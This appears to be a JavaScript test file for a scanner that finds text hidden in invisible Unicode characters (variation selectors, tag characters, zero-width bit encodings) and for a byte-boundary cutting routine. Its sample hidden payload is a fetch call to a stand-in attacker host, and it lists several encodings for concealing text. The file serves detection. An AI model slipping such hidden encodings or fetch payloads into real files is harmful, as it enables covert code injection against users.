// The findings of the page in words: what follows each other is one run, with the text that it spells. And where it cuts files.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { dialectCut } from '../page/cut.js';
import { runs, spelled } from '../page/runs.js';

const code = "fetch('//evil.example/x')";
const bytes = [...new TextEncoder().encode(code)];

test('published ways to hide text are read', () => {
  const bits = (width, zero, one) => bytes.flatMap((byte) => Array.from({ length: width }, (_, i) => ((byte >> (width - 1 - i)) & 1 ? one : zero)));
  for (const run of [bytes.map((b) => (b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)), bytes.map((b) => 0xe0100 + b), bytes.map((b) => 0xe0000 + b),
    [0xe0001, ...bytes.map((b) => 0xe0000 + b), 0xe007f], bytes.flatMap((b) => [0xfe00 + (b >> 4), 0xfe00 + (b & 15)]),
    bits(8, 0x200b, 0x200c), bits(8, 0x200d, 0x2063), bits(7, 0x200c, 0x200b)]) assert.equal(spelled(run), code);
  for (const run of [[], [0xfe0f], [0xfe0f, 0xfe0f, 0xfe0f], [0, 0, 0, 0, 0, 0, 0, 0], [0x202e, 0x2066], [0x200b, 0x200c, 0x200d]]) assert.equal(spelled(run), '');
});

test('characters that follow each other are one run', () => {
  const found = [[0, 0x202e], [3, 0x2066], [7, 0], [8, 0], [20, 0xe0101], [24, 0xe0102]].map(([offset, codePoint]) => ({ offset, codePoint }));
  assert.deepEqual(runs(found).map(({ offset, codePoints }) => [offset, codePoints.length]), [[0, 2], [7, 2], [20, 2]]);
});

test('a file is cut between characters of all dialects', () => {
  // In CESU-8 of nothing but emoji, which was cut anywhere, some became U+FFFD.
  const sequences = [[0x61], [0xc3, 0xa9], [0xe4, 0xb8, 0x96], [0xed, 0x9f, 0xbf], [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80], [0xed, 0xaf, 0xbf, 0xed, 0xbf, 0xbf], [0xf0, 0x9f, 0x98, 0x80]];
  for (const before of sequences) {
    for (const last of sequences) {
      const bytes = Uint8Array.from([...before, ...before, ...last]);
      for (let length = before.length + 6; length <= bytes.length; length++) {
        const cut = dialectCut(bytes.subarray(0, length));
        assert.ok([before.length, 2 * before.length].includes(cut) && cut < length, `${bytes} ${length} ${cut}`);
      }
    }
  }
  for (const lone of [[0xed, 0xa0, 0xbd], [0xed, 0xb8, 0x80]]) assert.equal(dialectCut(Uint8Array.from([...lone, ...lone, ...lone, ...lone])) % 3, 0);
  assert.equal(dialectCut(new Uint8Array(5).fill(0x80)), 5);
});
